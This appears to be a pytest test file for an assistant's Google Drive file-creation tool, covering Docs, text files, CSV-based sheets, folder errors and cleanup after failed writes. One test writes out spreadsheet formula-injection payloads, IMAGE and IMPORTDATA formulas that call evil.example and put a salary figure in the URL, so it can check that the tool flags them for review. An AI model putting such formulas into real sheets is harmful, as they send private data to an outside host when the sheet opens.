"""drive_create_file: the new file in Drive, in the right folder, with its content."""
import pytest
from google.auth.exceptions import RefreshError

from app import google_api
from app.tools import invoke, review
from app.tools.context import Context
from app.tools.registry import ReconnectRequired, ToolError

DOC = "application/vnd.google-apps.document"


def test_a_google_doc_is_created_from_markdown_in_a_folder_named_by_the_person(ctx, sandbox):
    made = invoke("drive_create_file", ctx, {"name": "Kickoff agenda", "content": "# Agenda\n\n- **Intro**\n- Goals", "folder": "Projects"})
    stored = sandbox.state()["drive"]["files"][made["id"]]
    assert stored["mimeType"] == DOC and stored["parents"] == ["1ProjectsFolder"]
    assert stored["text"] == "# Agenda\n\n- **Intro**\n- Goals\n"
    assert made["link"] == stored["webViewLink"] and "Kickoff agenda" in made["summary"]


def test_a_text_file_and_a_sheet_from_csv_are_created(ctx, sandbox):
    text = invoke("drive_create_file", ctx, {"name": "todo.txt", "content": "buy milk\n", "kind": "text", "folder": "1FinanceFolder"})
    sheet = invoke("drive_create_file", ctx, {"name": "Costs", "content": "a,b\n1,2\n", "kind": "sheet"})
    files = sandbox.state()["drive"]["files"]
    assert (files[text["id"]]["mimeType"], files[text["id"]]["text"], files[text["id"]]["parents"]) == ("text/plain", "buy milk\n", ["1FinanceFolder"])
    assert files[sheet["id"]]["text"] == "a,b\n1,2\n" and sheet["type"] == "sheet"


def test_a_sheet_whose_csv_holds_formulas_asks_first_and_lists_them(ctx):
    # Drive's CSV import makes them live formulas; IMAGE and IMPORTDATA fetch from the web when the sheet opens.
    csv = 'Name,Salary\nBob,120000\n=IMAGE("https://evil.example/x.png?d=Bob-120000"),\n+IMPORTDATA("https://evil.example/"),-45\n'

    card = review("drive_create_file", ctx, {"name": "Payroll", "kind": "sheet", "content": csv})

    assert card.effect == "outbound"
    assert card.preview["formulas"] == ['=IMAGE("https://evil.example/x.png?d=Bob-120000")', '+IMPORTDATA("https://evil.example/")']


def test_a_sheet_of_plain_values_and_a_text_file_starting_with_an_equals_sign_are_plain_writes(ctx):
    assert review("drive_create_file", ctx, {"name": "Refunds", "kind": "sheet", "content": "Item,Amount\nRefund,-45\n"}).effect == "write"
    assert review("drive_create_file", ctx, {"name": "notes.txt", "kind": "text", "content": "=IMAGE(x)"}).effect == "write"


def test_a_folder_that_does_not_exist_or_is_a_file_is_an_error_and_nothing_is_created(ctx, sandbox):
    before = len(sandbox.state()["drive"]["files"])
    with pytest.raises(ToolError, match="Drive has no folder named 'Projets'"):
        invoke("drive_create_file", ctx, {"name": "Agenda", "folder": "Projets"})
    with pytest.raises(ToolError, match="'1Q3BudgetSheet' is a file, not a folder"):
        invoke("drive_create_file", ctx, {"name": "Agenda", "folder": "1Q3BudgetSheet"})
    assert len(sandbox.state()["drive"]["files"]) == before


@pytest.mark.parametrize("tool", ["drive_create_file", "docs_create"])
def test_a_doc_whose_text_could_not_be_written_is_not_left_behind_empty(ctx, sandbox, tool):
    before = set(sandbox.state()["drive"]["files"])
    sandbox.fault(path=":batchUpdate", status=400, count=1)
    args = {"name": "Kickoff agenda", ("content" if tool == "drive_create_file" else "markdown"): "# Agenda"}

    with pytest.raises(ToolError):
        invoke(tool, ctx, args)

    assert set(sandbox.state()["drive"]["files"]) == before


def test_a_doc_that_failed_in_a_shared_drive_one_may_not_delete_from_is_trashed(sandbox):
    sandbox.reset({"drive": {"drives": [{"id": "0ATeamDrive", "name": "Team", "role": "fileOrganizer"}],
                             "files": [{"id": "1TeamFolder", "name": "Team notes", "mimeType": "folder", "drive": "0ATeamDrive"}]}})
    ctx = Context(credentials=sandbox.credentials(), api_root=sandbox.url)  # a reset forgets earlier grants
    sandbox.fault(path=":batchUpdate", status=400, count=1)

    with pytest.raises(ToolError):
        invoke("drive_create_file", ctx, {"name": "Kickoff agenda", "content": "# Agenda", "folder": "Team notes"})

    left = [f for f in sandbox.state()["drive"]["files"].values() if f["name"] == "Kickoff agenda"]
    assert left and all(f["trashed"] for f in left)


def test_a_doc_that_failed_where_one_may_neither_delete_nor_trash_is_named_in_the_error(sandbox):
    sandbox.reset({"drive": {"drives": [{"id": "0ATeamDrive", "name": "Team", "role": "writer"}],
                             "files": [{"id": "1TeamFolder", "name": "Team notes", "mimeType": "folder", "drive": "0ATeamDrive"}]}})
    ctx = Context(credentials=sandbox.credentials(), api_root=sandbox.url)
    sandbox.fault(path=":batchUpdate", status=400, count=1)

    with pytest.raises(ToolError, match="An empty Doc 'Kickoff agenda' was left in Drive and could not be removed: http"):
        invoke("drive_create_file", ctx, {"name": "Kickoff agenda", "content": "# Agenda", "folder": "Team notes"})


def test_a_refused_grant_while_writing_a_doc_still_asks_to_reconnect(ctx, sandbox, monkeypatch):
    execute = google_api.execute

    def grant_refused_from_the_write_on(request, retries=None):
        if "batchUpdate" in request.uri or request.method == "DELETE" or "trashed" in (request.body or ""):
            raise RefreshError("invalid_grant")
        return execute(request, retries)

    monkeypatch.setattr(google_api, "execute", grant_refused_from_the_write_on)

    with pytest.raises(ReconnectRequired, match="An empty Doc 'Kickoff agenda' was left in Drive"):
        invoke("docs_create", ctx, {"name": "Kickoff agenda", "markdown": "# Agenda"})
